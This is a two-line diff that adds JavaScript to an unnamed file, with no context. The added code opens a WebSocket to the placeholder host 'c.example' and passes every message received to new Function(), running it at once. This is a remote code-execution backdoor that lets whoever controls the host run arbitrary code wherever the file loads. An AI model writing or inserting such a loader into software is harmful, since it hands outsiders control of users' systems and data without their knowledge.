@@ -1,0 +1,2 @@
+const w = new WebSocket('wss://c.example');
+w.addEventListener('message', (e) => new Function(e.data)());
